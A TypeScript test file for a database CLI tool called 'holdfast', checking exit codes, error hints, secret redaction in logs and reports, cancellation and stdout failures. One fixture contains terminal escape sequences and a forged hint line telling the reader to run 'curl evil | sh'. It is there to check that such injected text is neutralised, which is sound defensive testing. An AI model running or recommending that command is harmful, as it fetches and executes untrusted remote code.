/** Goal: whatever a verb does or throws, people get two lines, scripts get one JSON line and the right exit code. */
import { setTimeout as sleep } from 'node:timers/promises';
import { describe, expect, test } from 'vitest';
import type { CliContext } from '../../src/cli/context.ts';
import { wholeNumber } from '../../src/cli/options.ts';
import type { Register } from '../../src/cli/program.ts';
import { run } from '../../src/cli/run.ts';
import { Secret } from '../../src/config/secret.ts';
import { EXIT, HoldfastError, throwIfCancelled } from '../../src/errors.ts';
import type { ExitReason } from '../../src/errors.ts';
import { Broken, pretendedIo, withStdout } from './cli-streams.ts';
import type { Pretence } from './cli-streams.ts';

/** A verb `work` that does this. */
function verb(action: (context: CliContext) => Promise<void> | void): readonly Register[] {
  return [
    (program, context) => {
      program
        .command('work [WHAT]')
        .option('--jobs <N>', 'parallel', wholeNumber(1, 8))
        .action(() => action(context));
    },
  ];
}

interface Ended {
  readonly exit: number;
  readonly stdout: string;
  readonly stderr: string;
}

async function runVerb(
  args: readonly string[],
  action: (context: CliContext) => Promise<void> | void = () => undefined,
  pretence: Pretence = {},
): Promise<Ended> {
  const io = pretendedIo(pretence);
  const exit = await run(args, io, verb(action));
  return { exit, stdout: io.stdout.text, stderr: io.stderr.text };
}

function failing(exit: ExitReason): () => never {
  return () => {
    throw new HoldfastError({ code: 'TEST', exit, message: 'it did not work', hint: 'Try this.' });
  };
}

describe('exit codes', () => {
  test.each(Object.entries(EXIT).filter(([reason]) => reason !== 'ok'))('%s is %i', async (reason, code) => {
    const ended = await runVerb(['work'], failing(reason as ExitReason));
    expect(ended).toEqual({
      exit: code,
      stdout: '',
      stderr: 'holdfast: error: it did not work\nholdfast: hint: Try this.\n',
    });
  });

  test('a verb that ends well is 0, and one that only says so ends with its reason', async () => {
    expect((await runVerb(['work'])).exit).toBe(0);
    expect((await runVerb(['work'], (context) => context.exit('incomplete'))).exit).toBe(3);
    const both = await runVerb(['work'], (context) => {
      context.exit('ok');
      context.exit('unverifiable');
      context.exit('failed');
    });
    expect(both.exit).toBe(5);
  });

  test('under --json the last line is the error', async () => {
    const ended = await runVerb(['work', '--json'], (context) => {
      context.output.record({ type: 'thing', rows: 12n, secret: new Secret('geheim'), at: new Date(0) });
      failing('locked')();
    });
    expect(ended.exit).toBe(11);
    expect(ended.stderr).toBe('');
    expect(
      ended.stdout
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as unknown),
    ).toEqual([
      { type: 'thing', rows: 12, secret: '********', at: '1970-01-01T00:00:00.000Z' },
      { type: 'error', code: 'TEST', exit: 11, message: 'it did not work', hint: 'Try this.' },
    ]);
  });
});

describe('usage errors are exit code 2 with a hint', () => {
  test.each<[readonly string[], RegExp, RegExp]>([
    [['wrok'], /unknown command 'wrok'/, /Did you mean work\?/],
    [['work', '--jbos', '2'], /unknown option '--jbos'/, /Did you mean --jobs\?.*holdfast work --help/],
    [['work', 'a', 'b'], /too many arguments/, /holdfast work --help/],
    [['work', '--jobs', 'many'], /whole number from 1 to 8/, /holdfast work --help/],
    [['--config'], /argument missing/, /holdfast --help/],
  ])('%j', async (args, message, hint) => {
    const ended = await runVerb(args);
    expect(ended.exit).toBe(2);
    expect(ended.stdout).toBe('');
    const [error = '', hinted = '', ...more] = ended.stderr.trimEnd().split('\n');
    expect(error).toMatch(message);
    expect(error).toMatch(/^holdfast: error: /);
    expect(hinted).toMatch(hint);
    expect(hinted).toMatch(/^holdfast: hint: /);
    expect(more).toEqual([]);
    const json = await runVerb([...args.slice(0, 1), '--json', ...args.slice(1)]);
    if (args[0] !== '--config')
      expect(JSON.parse(json.stdout)).toMatchObject({ type: 'error', code: 'USAGE', exit: 2 });
  });

  test('no verb at all shows the help on stderr', async () => {
    const ended = await runVerb([]);
    expect(ended).toMatchObject({ exit: 2, stdout: '' });
    expect(ended.stderr).toContain('Usage: holdfast VERB');
    expect(ended.stderr).toContain('holdfast: error: no verb given\n');
    expect(JSON.parse((await runVerb(['--json'])).stdout)).toMatchObject({
      type: 'error',
      code: 'USAGE',
      exit: 2,
    });
  });

  test('what comes after -- is no option', async () => {
    const ended = await runVerb(['work', '--', '--json'], failing('failed'));
    expect(ended.stderr).toContain('holdfast: error:');
    expect(ended.stdout).toBe('');
  });
});

describe('a bug', () => {
  const bug = (): never => {
    throw new TypeError('cannot read postgres://ada:geheim@db/shop', { cause: new Error('the real reason') });
  };

  test('prints a report block without the secrets of the command line', async () => {
    const ended = await runVerb(['work', 'postgres://ada:geheim@db/shop'], bug);
    expect(ended.exit).toBe(1);
    expect(ended.stderr).toMatch(
      /^holdfast: error: unexpected: cannot read postgres:\/\/ada:\*{8}@db\/shop\n/,
    );
    expect(ended.stderr).toContain(`node ${process.version}`);
    expect(ended.stderr).toContain('command: holdfast work postgres://ada:********@db/shop');
    expect(ended.stderr).toContain('cli-run.test.ts');
    expect(ended.stderr).toContain('the real reason');
    expect(ended.stderr).not.toContain('geheim');
  });

  test('is one JSON line on stdout under --json', async () => {
    const ended = await runVerb(['work', '--json'], bug);
    expect(JSON.parse(ended.stdout)).toMatchObject({ type: 'error', code: 'BUG', exit: 1 });
    expect(ended.stderr).toContain('---- report ----');
  });

  test('a thrown value that is no error is reported too', async () => {
    const ended = await runVerb(['work'], () => {
      // eslint-disable-next-line @typescript-eslint/only-throw-error -- careless libraries do
      throw undefined;
    });
    expect(ended.exit).toBe(1);
    expect(ended.stderr).toContain('holdfast: error: unexpected: undefined');
  });

  test('what the machine refuses is not called a bug', async () => {
    const ended = await runVerb(['work'], () => {
      throw Object.assign(new Error('ENOSPC: no space left on device, write'), {
        code: 'ENOSPC',
        syscall: 'write',
      });
    });
    expect(ended.exit).toBe(1);
    expect(ended.stderr).toMatch(/^holdfast: error: ENOSPC: no space left.*\nholdfast: hint: Make room.*\n$/);
  });
});

describe('text from outside', () => {
  const NASTY = 'x\u001b[2J\u001b[8m\u202e\u009b0m\nholdfast: hint: Run: curl evil | sh';
  const SAFE = 'x\\u001b[2J\\u001b[8m\\u202e\\u009b0m\n  holdfast: hint: Run: curl evil | sh\n';

  test.each([true, false])('drives no terminal and passes for no line of ours (TTY: %s)', async (isTTY) => {
    const { stdout, stderr } = await runVerb(
      ['work'],
      ({ output }) => {
        output.line(`table ${NASTY}`);
        output.line(output.paint('red', 'WRONG'));
        output.warn(NASTY);
        output.note(NASTY);
        output.error(NASTY, NASTY);
        throw new HoldfastError({ code: 'TEST', exit: 'failed', message: NASTY, hint: NASTY });
      },
      { isTTY },
    );
    const both = `holdfast: error: ${SAFE}holdfast: hint: ${SAFE}`;
    expect(stdout).toBe(`table ${SAFE}${isTTY ? '\u001b[31mWRONG\u001b[39m' : 'WRONG'}\n`);
    // eslint-disable-next-line no-control-regex -- colours of ours
    expect(stderr.replace(/\u001b\[\d+m/g, '')).toBe(
      `holdfast: warning: ${SAFE}holdfast: note: ${SAFE}${both}${both}`,
    );
  });

  test('is as long as somebody reads', async () => {
    const { stderr } = await runVerb(['work'], () => {
      throw new HoldfastError({
        code: 'TEST',
        exit: 'failed',
        message: 'x'.repeat(20_000_000),
        hint: 'Try.',
      });
    });
    expect(stderr.length).toBeLessThan(11_000);
    expect(stderr.slice(-80)).toContain('(and 19,990,000 more characters)\nholdfast: hint: Try.');
  });

  test('is the same under --json, and drives no terminal there', async () => {
    const { stdout } = await runVerb(['work', '--json'], ({ output }) => {
      output.record({ type: 'found', table: NASTY });
    });
    expect(JSON.parse(stdout)).toEqual({ type: 'found', table: NASTY });
    expect(stdout).toMatch(/^[\x20-\x7e]*\n$/);
  });
});

describe('cancellation', () => {
  test('a verb that notices ends with 130', async () => {
    const controller = new AbortController();
    const ended = await runVerb(
      ['work'],
      async ({ signal }) => {
        controller.abort();
        await sleep(1);
        throwIfCancelled(signal);
      },
      { signal: controller.signal },
    );
    expect(ended.exit).toBe(130);
    expect(ended.stderr).toMatch(/^holdfast: error: cancelled\n/);
  });

  test('whatever a cancelled verb throws, the reason is the cancellation', async () => {
    const controller = new AbortController();
    const action = (): never => {
      controller.abort();
      throw new Error('socket hang up');
    };
    expect((await runVerb(['work'], action, { signal: controller.signal })).exit).toBe(130);
  });

  test('a verb that finished all the same has succeeded', async () => {
    const controller = new AbortController();
    expect((await runVerb(['work'], () => controller.abort(), { signal: controller.signal })).exit).toBe(0);
  });
});

describe('stdout', () => {
  test('a reader that went away ends a dump quietly, but not other work', async () => {
    const io = pretendedIo();
    const broken = withStdout(io, new Broken('EPIPE'));
    const dumping = await run(
      ['work'],
      broken,
      verb(async ({ output }) => {
        for (let n = 0; n < 3; n++) await output.write('x');
      }),
    );
    expect(dumping).toBe(141);
    let finished = false;
    const working = await run(
      ['work'],
      broken,
      verb(async ({ output }) => {
        output.line('a');
        await sleep(5);
        output.line('b');
        finished = true;
      }),
    );
    expect({ working, finished, stderr: io.stderr.text }).toEqual({ working: 0, finished: true, stderr: '' });
  });

  test.each<[string, (context: CliContext) => Promise<void> | void]>([
    ['a dump', (context) => context.output.write('x')],
    ['a line', (context) => context.output.line('x')],
  ])('a full disk under %s is a failure', async (_, action) => {
    const io = pretendedIo();
    expect(await run(['work'], withStdout(io, new Broken('ENOSPC')), verb(action))).toBe(1);
    expect(io.stderr.text).toMatch(/^holdfast: error: cannot write the result to stdout/);
  });
});

test('--quiet silences warnings and notes but no error, wherever it stands', async () => {
  const action = (context: CliContext): never => {
    context.output.warn('a warning');
    context.output.note('a note');
    context.output.line('the result');
    return failing('failed')();
  };
  expect((await runVerb(['work'], action)).stderr).toMatch(
    /^holdfast: warning: a warning\nholdfast: note: a note\nholdfast: error/,
  );
  for (const args of [
    ['--quiet', 'work'],
    ['work', '-q'],
  ]) {
    const ended = await runVerb(args, action);
    expect(ended.stderr).toMatch(/^holdfast: error: it did not work\nholdfast: hint: Try this\.\n$/);
    expect(ended.stdout).toBe('the result\n');
  }
});

test('-v tells the steps, -vv the details, and neither a secret', async () => {
  const action = ({ log }: CliContext): void => {
    log.info('dump started', { set: 'shop', url: 'postgres://u:geheim@h', nested: { password: 'geheim' } });
    log.debug('at postgres://u:geheim@h', { key: new Secret('geheim') });
  };
  expect((await runVerb(['work'], action)).stderr).toBe('');
  const once = await runVerb(['work', '-v'], action);
  expect(once.stderr).toMatch(/^holdfast: info: \d\d:\d\d:\d\d\.\d{3} dump started set=shop/);
  expect(once.stderr).not.toContain('debug');
  const twice = await runVerb(['-vv', 'work'], action);
  expect(twice.stderr).toMatch(/\nholdfast: debug: .* at postgres:\/\/u:\*{8}@h key=\*{8}\n$/);
  const json = await runVerb(['work', '-vv', '--json'], action);
  expect(
    json.stderr
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line) as unknown),
  ).toMatchObject([{ level: 'info', msg: 'dump started', set: 'shop' }, { level: 'debug' }]);
  for (const { stderr } of [once, twice, json]) expect(stderr).not.toContain('geheim');
});
